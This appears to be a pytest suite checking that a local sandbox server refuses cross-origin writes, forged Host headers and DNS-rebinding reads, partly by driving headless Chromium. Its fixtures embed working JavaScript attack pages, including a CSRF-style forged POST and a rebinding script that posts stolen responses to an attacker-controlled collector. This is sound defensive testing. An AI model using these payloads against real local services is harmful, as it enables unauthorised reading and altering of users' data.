"""Web pages that make a browser send requests to a sandbox on the same machine."""

from __future__ import annotations

import contextlib
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from backpack_orm.sandbox import Sandbox
from backpack_orm.sandbox.guard import Guard, Refused
from tests.sandbox.conftest import Client

TOKEN = "known-to-the-attacker"


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Origin": "https://{host}"},
        {"Origin": "http://127.0.0.1:1"},
        {"Sec_Fetch_Site": "cross-site"},
        {"Sec_Fetch_Site": "same-site"},
        {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "navigate"},
    ],
)
def test_a_write_by_a_page_of_another_origin_is_refused(
    api: Client, headers: dict[str, str]
) -> None:
    host = api.url.removeprefix("http://")
    headers = {name: value.format(host=host) for name, value in headers.items()}
    body = f"<request><token>{api.token}</token><page><title>Evil</title></page></request>"
    response = api.send("POST", "/ws/pages/new", body, Content_Type="text/plain", **headers)
    assert response.status_code == 403
    assert '<response success="false"><error code="403">' in response.text
    assert "Evil" not in api.ws("pages/all")


@pytest.mark.parametrize("headers", [{"Origin": "{url}"}, {"Sec_Fetch_Site": "none"}, {}])
def test_other_requests_are_served(api: Client, headers: dict[str, Any]) -> None:
    headers = {name: value.format(url=api.url) for name, value in headers.items()}
    assert api.send("GET", "/me.xml", X_BP_Token=api.token, **headers).status_code == 200


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:{port}", "0.0.0.0:{port}", "127.0.0.1@evil.example"]
)
def test_a_request_for_another_host_is_misdirected(api: Client, host: str) -> None:
    port = api.url.rpartition(":")[2]
    response = api.send("GET", "/me.xml", X_BP_Token=api.token, Host=host.format(port=port))
    assert response.status_code == 421
    assert "Owner" not in response.text


@pytest.mark.parametrize(
    "host", ["localhost", "LOCALHOST:80", "127.0.0.1", "[::1]:9", "localhost."]
)
def test_all_names_of_this_machine_are_served(api: Client, host: str) -> None:
    assert api.send("GET", "/me.xml", X_BP_Token=api.token, Host=host).status_code == 200


def test_more_hosts_can_be_allowed(as_user: Callable[..., Client]) -> None:
    with Sandbox(seed="empty", token=TOKEN, allowed_hosts=["acme.backpackit.com"]) as box:
        client = as_user(TOKEN, box.url)
        statuses = [
            client.send("GET", "/me.xml", X_BP_Token=TOKEN, Host=host).status_code
            for host in ("acme.backpackit.com", "other.backpackit.com")
        ]
    assert statuses == [200, 421]


@pytest.mark.parametrize(
    ("host", "is_served"),
    [("192.0.2.7:80", True), ("[2001:db8::1]", True), ("localhost", True), ("evil.example", False)],
)
def test_on_all_interfaces_any_address_is_served_but_no_foreign_name(
    host: str, is_served: bool
) -> None:
    environ = {"HTTP_HOST": host, "SERVER_PROTOCOL": "HTTP/1.1", "wsgi.url_scheme": "http"}
    with contextlib.nullcontext() if is_served else pytest.raises(Refused, match="not a host"):
        Guard("0.0.0.0").check(environ)


def test_http_1_1_needs_a_host_and_http_1_0_does_not(box: Sandbox) -> None:
    def status(version: str) -> bytes:
        port = int(box.url.rpartition(":")[2])
        with socket.create_connection(("127.0.0.1", port)) as client:
            client.sendall(f"GET /login HTTP/{version}\r\nConnection: close\r\n\r\n".encode())
            with client.makefile("rb") as response:
                return response.readline().split()[1]

    assert (status("1.1"), status("1.0")) == (b"400", b"200")


# --- a real browser ---------------------------------------------------------------------------


class Attacker:
    """A server of one page, which reports its result."""

    def __init__(self, page: str, port: int = 0) -> None:
        self.reports: list[str] = []
        self.has_served = threading.Event()
        self.is_over = threading.Event()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)
                if self.path == "/":
                    attacker.has_served.set()

            def do_POST(self) -> None:
                length = int(self.headers["Content-Length"])
                attacker.reports.append(self.rfile.read(length).decode())
                self.send_response(204)
                self.end_headers()
                attacker.is_over.set()

            def log_message(self, *_: object) -> None: ...

        self._server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextlib.contextmanager
def browsing(url: str, folder: Path, host: str) -> Iterator[None]:
    browser = subprocess.Popen(
        [
            "chromium",
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            f"--user-data-dir={folder}",
            f"--host-resolver-rules=MAP {host} 127.0.0.1",
            # Chromium's own protection is young; the sandbox must not need it.
            "--disable-features=LocalNetworkAccessChecks,HttpsUpgrades",
            url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        browser.kill()
        browser.wait()


@pytest.mark.browser
def test_a_page_in_a_browser_can_neither_write_nor_read(
    tmp_path: Path, as_user: Callable[..., Client]
) -> None:
    with Sandbox(seed="empty", token=TOKEN) as box:
        attacker = Attacker(f"""<script>
            (async () => {{
                const url = "{box.url}", body =
                    "<request><token>{TOKEN}</token><page><title>Evil</title></page></request>";
                try {{
                    await fetch(url + "/ws/pages/new", {{method: "POST", mode: "no-cors", body}});
                }} catch {{}}
                let read = "nothing";
                try {{
                    const response = await fetch(url + "/me.xml?token={TOKEN}");
                    read = await response.text();
                }} catch {{}}
                await fetch("/over", {{method: "POST", body: read}});
            }})();
        </script>""")
        try:
            with browsing(f"http://evil.example:{attacker.port}/", tmp_path, "evil.example"):
                assert attacker.is_over.wait(60)
        finally:
            attacker.close()
        assert attacker.reports == ["nothing"]
        assert {(one.path, one.status) for one in box.log} == {
            ("/ws/pages/new", 403),
            ("/me.xml", 403),
        }
        assert "Evil" not in as_user(TOKEN, box.url).ws("pages/all")


@pytest.mark.browser
def test_a_name_that_is_rebound_to_this_machine_reads_nothing(tmp_path: Path) -> None:
    teller = Attacker("")
    first = Attacker(f"""<script>
        (async () => {{
            for (let i = 0; i < 200; i++) {{
                await new Promise(done => setTimeout(done, 100));
                try {{
                    const response = await fetch("/me.xml?token={TOKEN}");
                    if (response.headers.get("Server") !== "backpack") continue;
                    await fetch("http://127.0.0.1:{teller.port}/over", {{method: "POST",
                        mode: "no-cors", body: response.status + (await response.text())}});
                    break;
                }} catch {{}}
            }}
        }})();
    </script>""")
    try:
        with browsing(f"http://rebind.example:{first.port}/", tmp_path, "rebind.example"):
            assert first.has_served.wait(60)
            first.close()  # from here on the name leads to the sandbox, under the same origin
            with Sandbox(seed="empty", token=TOKEN, port=first.port) as box:
                assert teller.is_over.wait(60)
                statuses = {one.status for one in box.log}
    finally:
        teller.close()
    assert teller.reports[0].startswith("421")
    assert "Owner" not in teller.reports[0]
    assert statuses == {421}
